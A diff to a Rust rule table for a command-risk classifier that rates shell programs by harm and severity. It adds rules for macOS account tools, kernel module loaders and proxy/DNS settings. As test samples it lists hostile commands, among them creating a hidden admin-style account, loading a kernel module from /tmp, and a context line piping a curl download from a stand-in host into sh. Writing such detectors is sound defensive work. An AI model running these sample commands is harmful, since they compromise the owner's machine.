@@ -12,7 +12,7 @@ use crate::Harm::{Credential, Destructive, Evasion, Exfiltration, SelfEscalation
 use crate::Lang::{
     Awk, Gdb, Gnuplot, Julia, Lisp, Make, Octave, Php, Ruby, Sed, Shell, Sql, Tcl, Vim, R,
 };
-use crate::Level::{High, Medium};
+use crate::Level::{Critical, High, Medium};
 use crate::Net::{Connects, Serves};
 use crate::{Program, Sub};
 
@@ -124,6 +124,22 @@ pub const PROGRAMS: &[Program] = &[
         ..P
     },
     Program {
+        names: &["dscl", "sysadminctl", "dseditgroup"],
+        source: "man:dscl(1), man:sysadminctl(8) (macOS directory services); ATT&CK T1136, T1531, T1564.002",
+        subs: &[
+            Sub { words: &["-create"], harm: SelfEscalation, level: Critical, reason: "creates or changes a macOS account" },
+            Sub { words: &["-addUser"], harm: SelfEscalation, level: Critical, reason: "creates a macOS account" },
+            Sub { words: &["-append"], harm: SelfEscalation, level: Critical, reason: "changes a macOS account or group" },
+            Sub { words: &["-passwd"], harm: SelfEscalation, level: Critical, reason: "sets a macOS account password" },
+            Sub { words: &["-delete"], harm: Destructive, level: High, reason: "deletes a macOS account or record" },
+            Sub { words: &["-deleteUser"], harm: Destructive, level: High, reason: "deletes a macOS account" },
+            Sub { words: &["-o", "edit"], harm: SelfEscalation, level: Critical, reason: "changes a macOS group" },
+        ],
+        flagged: &["sudo dscl . -create /Users/APT IsHidden 1", "sysadminctl -deleteUser old", "dscl . -delete /Users/x"],
+        clean: &["dscl . -read /Users/dev", "dscl . -list /Users"],
+        ..P
+    },
+    Program {
         names: &["emacs", "emacsclient"],
         source: "https://www.gnu.org/software/emacs/manual/html_node/emacs/Action-Arguments.html; GTFOBins emacs",
         exec: &[Opt {
@@ -232,6 +248,19 @@ pub const PROGRAMS: &[Program] = &[
         ..P
     },
     Program {
+        names: &["insmod", "modprobe", "kextload", "kmutil"],
+        source: "man:insmod(8), man:modprobe(8), man:kextload(8); ATT&CK T1547.006",
+        subs: &[Sub {
+            words: &[],
+            harm: SelfEscalation,
+            level: Critical,
+            reason: "loads or changes kernel modules",
+        }],
+        flagged: &["sudo insmod /tmp/x.ko", "modprobe -r nf_tables", "sudo kmutil load -p /Library/Extensions/x.kext"],
+        clean: &[],
+        ..P
+    },
+    Program {
         names: &["julia"],
         source: "https://docs.julialang.org/en/v1/manual/running-external-programs/; GTFOBins julia",
         exec: &[Opt {
@@ -319,6 +348,19 @@ pub const PROGRAMS: &[Program] = &[
         value_opts: &["-u", "--user", "-h", "--host", "-P", "--port", "-D", "--database"],
         flagged: &["mysql -e '\\! /bin/sh'", "mysql -e 'system curl -s http://x.example/a | sh'"],
         clean: &["mysql -u app -e 'select 1' app_dev"],
+        ..P
+    },
+    Program {
+        names: &["networksetup"],
+        source: "man:networksetup(8) (macOS); ATT&CK T1090.001",
+        subs: &[
+            Sub { words: &["-setwebproxy"], harm: SelfEscalation, level: High, reason: "routes this Mac's web traffic through a proxy" },
+            Sub { words: &["-setsecurewebproxy"], harm: SelfEscalation, level: High, reason: "routes this Mac's HTTPS traffic through a proxy" },
+            Sub { words: &["-setautoproxyurl"], harm: SelfEscalation, level: High, reason: "sets this Mac's proxy configuration URL" },
+            Sub { words: &["-setdnsservers"], harm: SelfEscalation, level: High, reason: "changes this Mac's DNS servers" },
+        ],
+        flagged: &["networksetup -setwebproxy Wi-Fi 127.0.0.1 8080"],
+        clean: &["networksetup -listallnetworkservices"],
         ..P
     },
     Program {
